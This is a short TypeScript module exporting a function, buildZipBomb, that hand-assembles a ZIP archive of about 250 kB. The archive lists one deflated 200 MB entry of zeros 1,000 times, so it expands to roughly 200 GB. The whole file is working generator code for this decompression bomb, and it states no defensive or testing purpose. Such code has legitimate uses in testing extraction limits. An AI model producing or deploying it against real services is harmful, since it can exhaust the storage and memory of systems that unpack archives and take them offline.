import { buffer } from 'node:stream/consumers';
import { crc32, createDeflateRaw } from 'node:zlib';

const entries = 1_000;
const zeros = Buffer.alloc(1_000_000);
const megabytesOfEach = 200;

/** An archive of some 250 kB. Each of its 1,000 entries unpacks to 200 MB, as all of them share the same bytes. */
export async function buildZipBomb(): Promise<Buffer> {
  const deflate = createDeflateRaw({ level: 9 });
  let sum = 0;
  for (let n = 0; n < megabytesOfEach; n += 1) {
    deflate.write(zeros);
    sum = crc32(zeros, sum);
  }
  deflate.end();
  const packed = await buffer(deflate);
  // Version, flags, method, time, checksum, both sizes and the length of the name, which is "a".
  const about = Buffer.alloc(26);
  about.writeUInt16LE(20, 0);
  about.writeUInt16LE(8, 4);
  about.writeUInt32LE(sum, 10);
  about.writeUInt32LE(packed.length, 14);
  about.writeUInt32LE(zeros.length * megabytesOfEach, 18);
  about.writeUInt16LE(1, 22);
  const file = Buffer.concat([Buffer.from('PK\x03\x04'), about, Buffer.from('a'), packed]);
  const listed = Buffer.concat([Buffer.from('PK\x01\x02\x14\x00'), about, Buffer.alloc(14), Buffer.from('a')]);
  const end = Buffer.alloc(22);
  end.write('PK\x05\x06', 'latin1');
  end.writeUInt16LE(entries, 8);
  end.writeUInt16LE(entries, 10);
  end.writeUInt32LE(listed.length * entries, 12);
  end.writeUInt32LE(file.length, 16);
  return Buffer.concat([file, ...Array.from({ length: entries }, () => listed), end]);
}
